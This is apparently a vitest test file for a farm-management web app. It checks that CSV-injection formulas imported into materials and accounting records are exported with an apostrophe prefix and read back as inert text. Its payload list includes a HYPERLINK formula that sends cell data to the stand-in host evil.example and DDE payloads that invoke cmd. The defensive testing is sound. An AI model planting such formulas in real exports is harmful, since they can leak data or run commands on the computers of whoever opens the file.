/**
 * Issue 24 item 2: formula payloads round-trip through import and export as inert text.
 * A farm imports a CSV whose names and notes are OWASP's CSV-injection payloads: they are
 * stored verbatim (imports keep text). The console's table export (toCsv, the function the
 * table's export button calls) and the server's accounts report (`/api/farmAccounting/
 * report/export`) write them behind an apostrophe, and the import's own CSV reader reads
 * every one back as text that no spreadsheet evaluates, while numbers (a negative profit)
 * stay numbers. On every engine.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { engines } from '../support/engines.ts';
import { createTestApp, type TestApp } from '../support/app.ts';
import { call, type Body } from './resource-fixtures.ts';
import { isFormulaLike } from '../../runtime/format/csv.ts';
import { toCsv } from '../../runtime/screens/export.ts';
import type { GridColumn } from '../../runtime/screens/DataGrid.tsx';
import { decodeCsv, parseCsv } from '../../server/resources/import-csv.ts';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
  '=1+1',
  '+1+1',
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
];
const LIST = '/api/farmMaterials/list';
const quoted = (s: string) => `"${s.replace(/"/g, '""')}"`;

describe.each(engines())('CSV exports are data on $name', (engine) => {
  let t: TestApp;
  let farm: string;

  beforeAll(async () => {
    t = await createTestApp(engine);
    farm = `Bearer ${await t.login('farm')}`;
  });
  afterAll(() => t?.close());

  it('imports the payloads verbatim; the table export writes them as text a CSV reader reads back inert', async () => {
    const lines = ['商品编码 *,农资名称 *,品类 *,单位 *,单价（元）,备注', ...PAYLOADS.map((p, i) => `CSVX-${i},${quoted(p)},肥料,袋,12.5,${quoted(`note ${p}`)}`)];
    const content = Buffer.from(`\uFEFF${lines.join('\r\n')}\r\n`).toString('base64');
    const imported = await call(t, farm, 'POST', `${LIST}/import`, { mode: 'all', fileName: 'payloads.csv', content });
    expect(imported.status, imported.raw.body).toBe(200);
    expect(imported.data.imported).toBe(PAYLOADS.length);

    const rows = (await call(t, farm, 'GET', `${LIST}/page?goodsCode=CSVX-&pageSize=50&sort=goodsCode`)).data.rows as Body[];
    // As written (the import trims a cell's surrounding blanks, so the tab goes).
    const stored = PAYLOADS.map((p) => p.trim());
    expect(rows.map((r) => r.name)).toEqual(stored);
    expect(rows.map((r) => r.remark)).toEqual(PAYLOADS.map((p) => `note ${p}`));

    const column = (id: string, title: string): GridColumn => ({ id, title, text: (r) => String(r[id] ?? '') });
    const file = toCsv([column('goodsCode', '商品编码'), column('name', '农资名称'), column('unitPrice', '单价（元）'), column('remark', '备注')], rows);
    const back = parseCsv(file);
    expect(back).toHaveLength(PAYLOADS.length + 1);
    back.slice(1).forEach(([code, name, price, remark], i) => {
      expect(code).toBe(`CSVX-${i}`);
      expect(name).toBe(`'${stored[i]}`);
      expect(remark).toBe(`note ${PAYLOADS[i]}`);
      expect(price).toBe('12.5');
    });
    for (const cell of back.flat()) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
  });

  it('the accounts report export neutralises crop names and keeps a negative profit a number', async () => {
    const crops = PAYLOADS.map((p) => p.slice(0, 32));
    for (const crop of crops) {
      const r = await call(t, farm, 'POST', '/api/farmAccounting/entries', { entryOn: '2032-05-10', direction: 'expense', category: 'labour', amount: 12.5, crop });
      expect(r.status, r.raw.body).toBe(200);
    }
    const res = await t.app.inject({ method: 'GET', url: '/api/farmAccounting/report/export?from=2032-05-01&to=2032-05-31', headers: { authorization: farm, 'accept-language': 'en' } });
    expect(res.statusCode).toBe(200);
    expect(res.headers['content-type']).toContain('text/csv');
    const back = parseCsv(decodeCsv(res.rawPayload));
    const month = back.find((r) => r[0] === '2032-05');
    const expense = (12.5 * crops.length).toFixed(2);
    expect(month).toEqual(['2032-05', '0.00', expense, `-${expense}`]);
    for (const crop of crops) expect(back.find((r) => r[0] === `'${crop}`), crop).toEqual([`'${crop}`, '0.00', '12.50', '-12.50']);
    for (const cell of back.flat()) expect(isFormulaLike(cell), JSON.stringify(cell)).toBe(false);
  });
});
